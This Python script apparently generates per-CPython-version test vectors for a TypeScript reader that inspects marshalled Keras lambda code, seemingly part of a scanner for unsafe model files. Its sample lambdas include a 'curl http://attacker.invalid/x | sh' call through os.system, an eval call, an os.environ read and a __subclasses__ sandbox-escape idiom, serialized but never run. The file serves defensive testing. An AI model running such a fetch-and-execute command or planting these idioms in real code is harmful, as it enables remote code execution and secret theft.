"""Writes marshalled Lambda code objects for core/formats/py-marshal.test.ts, one file per CPython version.

Run with each interpreter to cover (3.8 ... 3.13; 3.7 as the unsupported layout):  python3.X scripts/gen_py_marshal_vectors.py
Each vector holds base64(marshal.dumps(fn.__code__)) exactly as Keras' python_utils.func_dump writes it,
plus what CPython itself says the code object holds (co_names of every nested code object, the string
constants): the oracle the TypeScript reader is compared against. Nothing here is executed except
building the lambdas; the os.system one is never called.
"""

import base64
import json
import marshal
import os
import sys
import types

LAMBDAS = {
    "math": lambda x: x * 2.0 + 1,
    "os_system": lambda x: __import__("os").system("echo modelgate-test") or x,
    "os_global": lambda x: os.system("curl http://attacker.invalid/x | sh") or x,
    "nested": lambda x: (lambda y: eval("y"))(x),
    "closure_defaults": lambda x, k=(1, 2.5, "s", b"b", None, True, ...): [v for v in k] and x,
    "dunder": lambda x: ().__class__.__bases__[0].__subclasses__(),
    "os_environ": lambda x: os.environ and x,
    "function_type": lambda x: python_types.FunctionType(x, {}),  # noqa: F821 - the name Keras' globals hold
}


def names_of(code):
    out = []
    stack = [code]
    while stack:
        c = stack.pop(0)
        out.append(list(c.co_names))
        stack.extend(k for k in c.co_consts if isinstance(k, types.CodeType))
    return out


def main():
    version = f"{sys.version_info[0]}.{sys.version_info[1]}"
    vectors = []
    for key, fn in LAMBDAS.items():
        raw = marshal.dumps(fn.__code__)
        vectors.append(
            {
                "key": key,
                "code": base64.b64encode(raw).decode("ascii"),
                "co_names": names_of(fn.__code__),
                "str_consts": [k for k in fn.__code__.co_consts if isinstance(k, str)],
            }
        )
    out = os.path.join(os.path.dirname(__file__), "..", "core", "formats", "testdata", "py-marshal", f"cpython-{version}.json")
    with open(out, "w") as f:
        json.dump({"python": sys.version.split()[0], "vectors": vectors}, f, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
